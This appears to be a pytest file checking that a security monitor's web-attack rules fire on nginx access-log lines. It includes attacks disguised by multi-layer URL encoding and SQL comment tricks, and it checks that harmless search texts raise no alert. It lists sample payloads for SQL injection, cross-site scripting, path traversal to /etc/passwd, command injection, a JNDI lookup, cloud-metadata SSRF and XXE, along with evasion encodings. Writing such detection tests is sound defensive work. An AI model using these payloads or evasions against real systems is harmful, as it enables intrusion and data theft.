"""The shipped rules and what stands in web addresses: no way to write an attack hides it, no ordinary text is one."""

import json
import os
from collections.abc import Callable, Iterable
from pathlib import Path
from urllib.parse import quote, quote_plus

import pytest

from tests.shipped_rules import engine, fired, parsed

REQUEST = '203.0.113.9 - - [07/Sep/2026:09:30:00 +0800] "GET {path} HTTP/1.1" 200 512 "-" "Mozilla/5.0"'


ATTACKS = [
    ("web/sql_injection", "1 union all select name,pwd from users"),
    ("web/sql_injection", "x' or '1'='1"),
    ("web/sql_injection", "1/**/union/**/select/**/1,2"),
    ("web/cross_site_scripting", "<script>alert(1)</script>"),
    ("web/cross_site_scripting", "<img src=x onerror=alert(1)>"),
    ("web/path_traversal", "../../../../etc/passwd"),
    ("web/path_traversal", "..\\..\\..\\windows\\win.ini"),
    ("web/command_injection", "127.0.0.1;cat /etc/hosts"),
    ("web/command_injection", "$(whoami)"),
    ("web/jndi_injection", "${jndi:ldap://203.0.113.9/a}"),
    ("web/java_deserialization", '{"@type":"com.sun.rowset.JdbcRowSetImpl"}'),
    ("web/php_deserialization", 'O:8:"Exploit1":1:{s:3:"cmd";}'),
    ("web/php_code_injection", "system('id')"),
    ("web/template_injection", "{{config.items()}}"),
    ("web/server_side_request", "http://169.254.169.254/latest/"),
    ("web/xml_external_entity", '<!ENTITY x SYSTEM "file:///etc/hosts">'),
    ("web/nosql_ldap_injection", '{"$ne":""}'),
    ("web/response_splitting", "x\r\nSet-Cookie: a=1"),
]
"""Rule → what it must see however it is written."""


def every_byte(text: str) -> str:
    return "".join(f"%{byte:02x}" for byte in text.encode())


def overlong(text: str) -> str:
    return "".join(f"%{0xC0 | ord(each) >> 6:02X}%{0x80 | ord(each) & 0x3F:02X}" for each in text)


DISGUISES: dict[str, Callable[[str], str]] = {
    "encoded once": lambda text: quote(text, safe=""),
    "encoded twice": lambda text: quote(quote(text, safe=""), safe=""),
    "encoded three times": lambda text: quote(quote(quote(text, safe=""), safe=""), safe=""),
    "plus for blank": quote_plus,
    "letters too": every_byte,
    "letters too, twice": lambda text: quote(every_byte(text), safe=""),
    "as escape() writes": lambda text: "".join(f"%u{ord(each):04x}" for each in text),
    "overlong": overlong,
    "overlong in three bytes": lambda text: "".join(
        f"%e0%{0x80 | ord(each) >> 6:02x}%{0x80 | ord(each) & 0x3F:02x}" for each in text
    ),
    "in capitals": lambda text: every_byte(text).upper(),
}


@pytest.mark.parametrize("disguise", DISGUISES.values(), ids=DISGUISES)
@pytest.mark.parametrize(("rule", "payload"), ATTACKS)
def test_encoding_an_attack_hides_it_from_no_rule(rule: str, payload: str, disguise: Callable[[str], str]) -> None:
    assert rule in fired(parsed("nginx.access", [REQUEST.format(path=f"/search?q={disguise(payload)}")]))


@pytest.mark.parametrize(
    "payload",
    [
        "1/**/union/**/select/**/1,2",
        "1/*x*/union/*y z*/all/*** **/select/*x*/1,2",
        "1 /*!50000union*/ /*!50000select*/ 1,2",
        "1 /*!union*//*!select*/ 1,2",
        "1\tunion\nselect\r\n1,2",
        "1\x0bunion\x0cselect\xa01,2",
        "1 uNiOn(sElEcT(1),2)",
        "-1 union all select@@version",
        "-1 union select 7",
        "1'/**/oR/**/'1'/**/lIkE/**/'1",
    ],
)
def test_what_a_database_skips_hides_no_injection(payload: str) -> None:
    assert "web/sql_injection" in fired(parsed("nginx.access", [REQUEST.format(path=f"/news?id={quote(payload)}")]))


@pytest.mark.parametrize(
    "path",
    [
        "/actuator/env", "/%61ctuator/%65nv", "//actuator///env", "/./actuator/./env", "/static/..;/actuator/env",
        "/static/%2e%2e/actuator/env", "/actuator;a=b/env;c=d", "/%2561ctuator/env", "/actuator%2fenv",
        "/actuator%5cenv", "/ACTUATOR/ENV", "/%c0%af%61ctuator%c0%afenv", "/actuator/env/",
    ],
)  # fmt: skip
def test_no_way_to_write_a_path_hides_a_management_page(path: str) -> None:
    assert "web/exposed_management_page" in fired(parsed("nginx.access", [REQUEST.format(path=path)]))


HARMLESS = [
    "学生会 (union) 选举 select 委员会",
    "O'Brien and Sons = 3",
    "教师's or 家长's 意见",
    "Cat; dog; find out more",
    "Staff | Head of Year",
    "Java; Python 3; PHP 7.4",
    "运行 `python -m pytest`, 看 `id` 和 `env` 的用法",
    "def __init__(self, name): 构造函数怎么写",
    "Benchmark (2,858 rules)",
    'print("a")  # 注释',
    'option("--zone", default="UTC")',
    'if x["and", "or"] -> y',
    "1/2 and 3/4 or 5",
    "c++ && c# || java",
    "成绩 > 60 且 < 90",
    "<<红楼梦>> 第十回",
    "e-mail: onload 事件是什么意思",
    "C:\\Users\\课件\\第1章.pptx",
    "作业/../提交说明",
    "100% 完成 50%25",
    "select 课程 from 教务处网站",
    "来来往往 拉拉队 老李",
    "https://www.example.edu.cn/a.html?x=1",
    "{{ user.name }} 您好",
    "${姓名} 同学",
    "2026-09-07 -- 2026-09-30",
    "(教务)(处)，（通知）；“关于放假”",
]
"""What people look for, and forms send, that has something of an attack."""

HARMLESS_WAYS = {
    "as browsers send it": quote_plus,
    "twice": lambda text: quote(quote(text, safe=""), safe=""),
    "by an old page": lambda text: quote(text.encode("gb18030")),
    "as escape() writes": lambda text: "".join(
        f"%u{ord(each):04x}" if ord(each) > 0xFF else quote(each) for each in text
    ),
}


@pytest.mark.parametrize("way", HARMLESS_WAYS.values(), ids=HARMLESS_WAYS)
@pytest.mark.parametrize("text", HARMLESS)
def test_what_people_look_for_gives_no_alert(text: str, way: Callable[[str], str]) -> None:
    assert fired(parsed("nginx.access", [REQUEST.format(path=f"/search?q={way(text)}&page=1")])) == {}


def corpus(label: str) -> list[str]:
    """Return payloads of the gotestwaf corpus that fit into a web address."""
    path = Path(os.environ["SECMON_CORPORA"]) / "gotestwaf" / "payloads.jsonl"
    cases = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    return [case["payload"] for case in cases if case["label"] == label and "\n" not in case["payload"]]


def requests(payloads: Iterable[str], layers: int) -> list[str]:
    lines = []
    for payload in payloads:
        text = payload
        for _ in range(layers):
            text = quote(text, safe="")
        lines.append(REQUEST.format(path=f"/search?q={text}"))
    return lines


@pytest.mark.corpora
@pytest.mark.parametrize("layers", [1, 2])
def test_ordinary_texts_of_the_corpus_give_no_alert(layers: int) -> None:
    payloads = corpus("benign")
    assert len(payloads) > 40
    assert fired(parsed("nginx.access", requests(payloads, layers))) == {}


@pytest.mark.corpora
def test_at_least_half_of_the_corpus_attacks_are_seen_in_the_address() -> None:
    """Many of them belong into a body, which an access log does not hold."""
    payloads = corpus("attack")
    events = parsed("nginx.access", requests(payloads, 1))
    seen = sum(1 for event in events if any(rule.generates for rule in engine().match(event)))
    assert seen >= len(payloads) / 2
